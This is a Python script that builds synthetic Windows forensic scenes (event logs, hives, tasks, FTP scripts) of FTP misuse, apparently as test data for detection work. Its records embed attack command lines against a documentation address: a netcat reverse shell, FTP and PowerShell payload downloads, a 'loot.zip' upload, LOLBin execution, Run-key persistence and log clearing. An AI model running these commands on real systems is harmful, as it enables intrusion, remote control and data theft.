#!/usr/bin/env python3
"""Makes hosts on which FTP was used in the ways that the playbooks tell of, with what Windows would have recorded.

usage: make_scenes.py DIRECTORY [--without SOURCE]...

Each scene is a folder with a volume: event logs, hives, tasks, scripts and payloads. SOURCE leaves something out of all of
them: `sysmon-3`, `security-4688` and the like by their word, `tasks`, `hives`, `payloads`, `scripts`. The records follow the
schemas that Microsoft publishes; the addresses are documentation addresses (RFC 5737), but for the internal server of the
scene `job`. Standard library only, no clock, no chance.
"""
import hashlib
import pathlib
import sys

from evtx_writer import Record, write
from hive_writer import hive
from make_event_logs import CMD, FTP, PC, SECURITY, guid, security, started, sysmon
from make_host import TOOL, crlf

PUBLIC = "C:\\Users\\Public\\"
SCRIPT, PAYLOAD = PUBLIC + "a.txt", PUBLIC + "nc.exe"
SERVER, DAY = "203.0.113.10", "2024-05-12 "
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
EXPLORER, SVCHOST = r"C:\Windows\explorer.exe", r"C:\Windows\System32\svchost.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
LOGS = {
    "Microsoft-Windows-Sysmon": "Microsoft-Windows-Sysmon%4Operational",
    "Microsoft-Windows-PowerShell": "Microsoft-Windows-PowerShell%4Operational",
    SECURITY: "Security",
    "Microsoft-Windows-Eventlog": "Security",
}


def at(seconds):
    return f"{DAY}17:{20 + seconds // 60:02}:{seconds % 60:02}.000"


def start(seconds, pid, image, line, parent=(3000, CMD, "cmd"), original=None, content=None):
    """The start of a process, whose digest is that of `content` where the scene holds the program."""
    record = started(at(seconds), pid, image, line, *parent)
    if original:
        record.data["OriginalFileName"] = original
    if content:
        record.data["Hashes"] = "SHA256=" + hashlib.sha256(content).hexdigest().upper()
    return record


def of(number, seconds, pid, image, **data):
    return sysmon(number, at(seconds), ProcessGuid=guid(pid), ProcessId=pid, Image=image, User=r"CORP\kim", **data)


def connect(seconds, port, pid=3100, image=FTP, host=SERVER, initiated="true"):
    return of(3, seconds, pid, image, Protocol="tcp", Initiated=initiated, SourceIsIpv6="false", SourceIp="192.0.2.5", SourceHostname=PC,
              SourcePort=50000 + seconds, SourcePortName="-", DestinationIsIpv6="false", DestinationIp=host, DestinationHostname="-",
              DestinationPort=port, DestinationPortName="-")


def makes(seconds, path, pid=3100, image=FTP):
    return of(11, seconds, pid, image, TargetFilename=path, CreationUtcTime=at(seconds))


def script(*commands, host=SERVER):
    return crlf(f"open {host}", "bob", "s3cret!", "binary", *commands, "bye")


def host(records, files):
    return records, files


def run(line=rf"ftp -s:{SCRIPT}", commands=("get nc.exe",), server=SERVER, connections=None, parent=(3000, CMD, "cmd"), image=FTP,
        original=None, after=(), files=None):
    """A run of a client with its script, a passive transfer, and what came after it."""
    if connections is None:
        connections = [connect(13, 21, image=image, host=server), connect(15, 50123, image=image, host=server)]
    records = [start(12, 3100, image, line, parent, original), *connections, of(5, 17, 3100, image), *after]
    return records, {"Users/Public/a.txt": script(*commands, host=server), **(files or {})}


def came(*after, name="nc.exe"):
    """What follows after a file came."""
    return run(commands=(f"get {name}",), after=[makes(15, PUBLIC + name), *after])


def dropper():
    line = r"cmd /c (echo open 203.0.113.10&echo bob&echo s3cret!&echo get nc.exe&echo bye)>a.txt & ftp -s:a.txt"
    above = (3000, CMD, line)
    return host([
        start(0, 2500, WORD, "WINWORD.EXE /n a.docm", (2000, EXPLORER, EXPLORER)),
        start(10, 3000, CMD, line, (2500, WORD, "WINWORD.EXE /n a.docm")),
        makes(11, SCRIPT, 3000, CMD),
        start(12, 3100, FTP, "ftp  -s:a.txt", above),
        of(7, 12, 3100, FTP, ImageLoaded=FTP, FileVersion="-", Description="-", Product="-", Company="-", OriginalFileName="ftp.exe",
           Hashes="SHA256=" + "AB" * 32, Signed="true", Signature="Microsoft Windows", SignatureStatus="Valid"),
        of(22, 13, 3100, FTP, QueryName="ftp.bad.example", QueryStatus=0, QueryResults=f"::ffff:{SERVER};"),
        connect(13, 21), connect(15, 50123), makes(15, PAYLOAD),
        of(5, 17, 3100, FTP),
        of(23, 18, 3000, CMD, TargetFilename=SCRIPT, Hashes="SHA256=" + "CD" * 32, IsExecutable="false", Archived="true"),
        start(25, 3200, PAYLOAD, "nc.exe -e cmd 203.0.113.10 443", above, content=TOOL),
    ], {"Users/Public/nc.exe": TOOL})


def renamed_without_digest():
    """Only the Security log, which tells no digest and no version: the file on the volume tells that it is ftp.exe."""
    image = PUBLIC + "svc.exe"
    records = [
        Record(SECURITY, 4624, at(1), "Security", PC, {"TargetUserSid": "S-1-5-21-1-2-3-1001", "TargetUserName": "kim", "TargetDomainName":
               "CORP", "TargetLogonId": "0x135f2", "LogonType": "10", "IpAddress": "198.51.100.23", "IpPort": "0", "WorkstationName": "-"}, 2),
        security(4688, at(12), 2, NewProcessId="0xc1c", NewProcessName=image, TokenElevationType="%%1938", ProcessId="0xbb8",
                 CommandLine=rf"svc.exe -s:{SCRIPT}", TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-", TargetLogonId="0x0",
                 ParentProcessName=CMD, MandatoryLabel="S-1-16-8192"),
    ]
    ftp = TOOL.replace(b"a tool that was fetched", b"stands for an ftp client")
    files = {"Users/Public/a.txt": script("get nc.exe"), "Users/Public/svc.exe": ftp, "Windows/System32/ftp.exe": ftp}
    return host(records, files)


def block(seconds, pid, number, text, path=""):
    return Record("Microsoft-Windows-PowerShell", 4104, at(seconds), "Microsoft-Windows-PowerShell/Operational", PC,
                  {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "Path": path,
                   "ScriptBlockId": f"0f8fad5b-d9cb-469f-a165-{number:012}"}, 1, process_id=pid)


def blocks():
    """One block fetches by itself, another one starts ftp.exe."""
    fetch = "$w = New-Object Net.WebClient\n$w.DownloadFile('ftp://bob:s3cret!@203.0.113.10/nc.exe','C:\\Users\\Public\\nc.exe')\n"
    client = f"Set-Content {SCRIPT} \"open 203.0.113.10`nbob`ns3cret!`nget b.exe`nbye\"\nftp -s:{SCRIPT}\n"
    return host([
        start(0, 4000, POWERSHELL, r"powershell -File C:\Users\Public\x.ps1"),
        block(1, 4000, 1, fetch, r"C:\Users\Public\x.ps1"),
        connect(2, 21, 4000, POWERSHELL), makes(3, PAYLOAD, 4000, POWERSHELL),
        start(8, 4100, POWERSHELL, "powershell -enc AAAA"),
        block(9, 4100, 2, client),
        start(12, 3100, FTP, rf"ftp -s:{SCRIPT}", (4100, POWERSHELL, "powershell -enc AAAA")),
    ], {})


def cleared():
    records, files = dropper()
    subject = {"SubjectUserSid": "S-1-5-21-1-2-3-1001", "SubjectUserName": "kim", "SubjectDomainName": "CORP", "SubjectLogonId": "0x135f2"}
    records.append(Record("Microsoft-Windows-Eventlog", 1102, at(60), "Security", PC, subject, user_data="LogFileCleared",
                          namespace="http://manifests.microsoft.com/win/2004/08/windows/eventlog"))
    policy = {"Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit": {"@values": {"ProcessCreationIncludeCmdLine_Enabled": 0}}}
    files["Windows/System32/config/SOFTWARE"] = hive(policy, "\\SystemRoot\\System32\\Config\\SOFTWARE")
    return records, files


def run_key():
    records, files = came()
    keys = {"Software\\Microsoft\\Windows\\CurrentVersion\\Run": {"@values": {"Updater": f'"{PAYLOAD}" -d'}}}
    files["Users/kim/NTUSER.DAT"] = hive(keys, "\\??\\C:\\Users\\kim\\ntuser.dat")
    return records, {**files, "Users/Public/nc.exe": TOOL}


def task():
    records, files = came()
    text = ('<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
            f"<Actions><Exec><Command>ftp</Command><Arguments>-s:{SCRIPT}</Arguments></Exec></Actions></Task>")
    return records, {**files, "Windows/System32/Tasks/nightly": b"\xff\xfe" + text.encode("utf-16-le")}


def job():
    """The job of an owner who is known, from an internal server."""
    above = (1100, SVCHOST, "svchost.exe -k netsvcs -p -s Schedule")
    return run(commands=("get prices.csv",), server="10.1.2.3", parent=above)


SCENES = {
    "dropper": dropper,
    "anonymous": lambda: run(line=rf"ftp -A -s:{SCRIPT}"),
    "renamed": lambda: run(line=rf"svc.exe -s:{SCRIPT}", image=PUBLIC + "svc.exe", original="ftp.exe"),
    "renamed-file": renamed_without_digest,
    "passive": run,
    "active": lambda: run(connections=[connect(13, 21), connect(15, 20, initiated="false")]),
    "ftps": lambda: run(connections=[connect(13, 990)]),
    "upload": lambda: run(commands=("put loot.zip",), files={"Users/Public/loot.zip": b"PK\5\6" + bytes(18)}),
    "rundll32": lambda: came(start(25, 3200, r"C:\Windows\System32\rundll32.exe", rf"rundll32.exe {PUBLIC}a.dll,Start"), name="a.dll"),
    "mshta": lambda: came(start(25, 3200, r"C:\Windows\System32\mshta.exe", rf"mshta.exe {PUBLIC}a.hta"), name="a.hta"),
    "powershell": lambda: came(start(25, 3200, POWERSHELL, "powershell -ep bypass -File a.ps1"), name="a.ps1"),
    "run-key": run_key,
    "task": task,
    "blocks": blocks,
    "cleared": cleared,
    "job": job,
}


def word(record):
    logs = {"Microsoft-Windows-Sysmon": "sysmon", "Microsoft-Windows-PowerShell": "powershell"}
    return f"{logs.get(record.provider, 'security')}-{record.event_id}"


def kind(path):
    for start, what in (("Windows/System32/Tasks/", "tasks"), ("Windows/System32/config/", "hives"), ("Users/Public/a.txt", "scripts")):
        if path.startswith(start):
            return what
    return "hives" if path.endswith("NTUSER.DAT") else "payloads"


def main():
    root, without = pathlib.Path(sys.argv[1]), set(sys.argv[3::2])
    for name, make in SCENES.items():
        records, files = make()
        volume = root / name / "C"
        (volume / "Windows/System32").mkdir(parents=True)
        for path, content in files.items():
            if kind(path) not in without:
                (volume / path).parent.mkdir(parents=True, exist_ok=True)
                (volume / path).write_bytes(content)
        logs = volume / "Windows/System32/winevt/Logs"
        logs.mkdir(parents=True)
        by_log = {}
        for record in records:
            if word(record) not in without:
                by_log.setdefault(LOGS[record.provider], []).append(record)
        for log, kept in by_log.items():
            write(logs / f"{log}.evtx", sorted(kept, key=lambda record: record.time))


if __name__ == "__main__":
    main()
